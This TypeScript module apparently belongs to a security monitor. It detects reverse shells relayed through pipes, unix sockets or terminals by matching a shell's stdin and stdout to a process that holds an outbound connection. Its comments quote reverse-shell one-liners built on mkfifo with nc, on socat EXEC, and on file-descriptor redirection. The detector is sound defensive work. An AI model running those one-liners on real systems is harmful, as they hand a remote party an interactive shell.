/**
 * Who speaks for a shell that has no socket of its own.
 *
 * `mkfifo f; sh < f | nc host port > f` and `socat TCP:host:port EXEC:sh,pty` give the shell pipes or a terminal; the
 * connection is held by another process that passes bytes between the two. Seen from the kernel:
 *
 * - pipeline: the shell's output is the pipe that a connected process has as its input, and the shell's input comes
 *   from a connected process too, or that same process writes into a pipe as well;
 * - parent: the shell's input and output are both pipes, both unix sockets or both a terminal, and its parent holds an
 *   open connection that it, or an ancestor, opened outward.
 *
 * Only shells that read their commands from such an input count: `sh -c ...` and scripts get no orders from there.
 * The order of events doesn't matter: it is looked at when the shell starts and when the relay connects.
 */
import type { Descriptor, Socket } from './assemble.ts'
import type { ProcessBase, Stdio } from './event.ts'

export interface Connection {
  ip: string
  port: number
}

/** What the wiring knows of a process. */
export interface Wired {
  described: ProcessBase
  /** Outgoing connections, those inherited from the parent included; newest last. */
  connections: Connection[]
  stdio: (Descriptor | undefined)[]
  parent: Wired | undefined
  exited: boolean
}

export interface Wiring<P extends Wired> {
  /** A process has begun a program: describes its relay, if it has one, in its stdin and stdout. */
  execed(process: P, parentSockets: Socket[]): void
  /** A process has opened a connection: the shells that are wired to the network by it; each is described. */
  connected(process: P): P[]
  /** The process has ended, or begins another program. */
  forget(process: P): void
  /** Its descriptors are others now; forget() came before. */
  rewired(process: P): void
}

/** Both ends of a conversation by one of these kinds can be held by a relay. */
const conduits = new Set(['pipe', 'unix', 'tty'])

export function createWiring<P extends Wired>(): Wiring<P> {
  /** Shells that read their commands from a conduit: by the pipes they read and write, and by their parent. */
  const shellsByInput = new Map<string, P>()
  const shellsByOutput = new Map<string, P>()
  const shellsByParent = new Map<Wired, P[]>()
  /** Programs that have opened a connection: by the pipe they read from, and by the one they write to. */
  const relaysByInput = new Map<string, P>()
  const relaysByOutput = new Map<string, P>()

  const inPipeline = (shell: P): P | undefined => {
    const output = shell.described.stdout?.inode
    const input = shell.described.stdin?.inode
    const reader = output === undefined ? undefined : relaysByInput.get(output)
    if (!reader || reader === shell || reader.exited || input === undefined) return undefined
    const writer = relaysByOutput.get(input)
    if (writer && !writer.exited) return writer
    return pipeAt(reader, 1) === undefined ? undefined : reader
  }

  const wire = (shell: P, relay: Wired, connection: Connection | undefined): boolean => {
    if (!connection || shell.exited) return false
    const { pid, name, command_line } = relay.described
    const through = (stdio: Stdio | undefined): Stdio => ({
      ...stdio,
      peer: connection,
      direction: 'outbound',
      relay: { ...(pid !== undefined && { pid }), ...(name && { name }), ...(command_line && { command_line }) },
    })
    shell.described = {
      ...shell.described,
      stdin: through(shell.described.stdin),
      stdout: through(shell.described.stdout),
    }
    return true
  }

  return {
    execed(process, parentSockets) {
      this.rewired(process)
      const { stdin, stdout, reads_commands_from } = process.described
      if (reads_commands_from !== 'stdin' || !conduits.has(stdin?.type ?? '') || stdout?.type !== stdin?.type) return
      if (stdin?.inode !== undefined) shellsByInput.set(stdin.inode, process)
      if (stdout?.inode !== undefined) shellsByOutput.set(stdout.inode, process)
      const { parent } = process
      if (parent) shellsByParent.set(parent, [...(shellsByParent.get(parent) ?? []), process])
      const neighbour = inPipeline(process)
      if (neighbour) wire(process, neighbour, connectionOf(neighbour))
      else if (parent) wire(process, parent, openConnection(parent, parentSockets))
    },

    connected(process) {
      relay(process)
      const children = (shellsByParent.get(process) ?? []).map((shell) => [shell, process] as const)
      const neighbours = [shellsByOutput.get(pipeAt(process, 0) ?? ''), shellsByInput.get(pipeAt(process, 1) ?? '')]
        .filter((shell) => shell !== undefined)
        .map((shell) => [shell, inPipeline(shell)] as const)
      return [...children, ...neighbours]
        .filter(([shell, via]) => via && !shell.described.stdin?.relay && wire(shell, via, connectionOf(via)))
        .map(([shell]) => shell)
    },

    rewired(process) {
      if (networkPeer(process)) relay(process)
    },

    forget(process) {
      const remove = (map: Map<string, P>, key: string | undefined) => {
        if (key !== undefined && map.get(key) === process) map.delete(key)
      }
      remove(shellsByInput, process.stdio[0]?.inode)
      remove(shellsByOutput, process.stdio[1]?.inode)
      remove(relaysByInput, process.stdio[0]?.inode)
      remove(relaysByOutput, process.stdio[1]?.inode)
      if (process.exited) shellsByParent.delete(process)
      const { parent } = process
      const siblings = parent && shellsByParent.get(parent)?.filter((shell) => shell !== process)
      if (parent && siblings) {
        if (siblings.length > 0) shellsByParent.set(parent, siblings)
        else shellsByParent.delete(parent)
      }
    },
  }

  function relay(process: P): void {
    const [input, output] = [pipeAt(process, 0), pipeAt(process, 1)]
    if (input !== undefined) relaysByInput.set(input, process)
    if (output !== undefined) relaysByOutput.set(output, process)
  }
}

const S_IFMT = 0o170000
const S_IFIFO = 0o010000

/** The pipe that is this descriptor, if it is one. */
const pipeAt = (process: Wired, at: 0 | 1): string | undefined => {
  const descriptor = process.stdio[at]
  return descriptor && (descriptor.mode & S_IFMT) === S_IFIFO ? descriptor.inode : undefined
}

/** The other end of the connection that is its input or its output: `cat <&3 | sh | cat >&3`. */
const networkPeer = ({ described: { stdin, stdout } }: Wired): Connection | undefined =>
  [stdin, stdout].map((stdio) => fullPeer(stdio)).find((peer) => peer !== undefined)

function fullPeer(stdio: Stdio | undefined): Connection | undefined {
  const { ip, port } = (stdio?.type === 'socket' && stdio.peer) || {}
  return ip === undefined || port === undefined ? undefined : { ip, port }
}

/** What a relay passes on. */
const connectionOf = (relay: Wired): Connection | undefined => networkPeer(relay) ?? relay.connections.at(-1)

/** A connection that the parent opened and, by its descriptors, still holds. */
function openConnection(parent: Wired, sockets: Socket[]): Connection | undefined {
  return parent.connections.findLast(({ ip, port }) =>
    sockets.some((socket) => !socket.listening && socket.ip === ip && socket.port === port),
  )
}
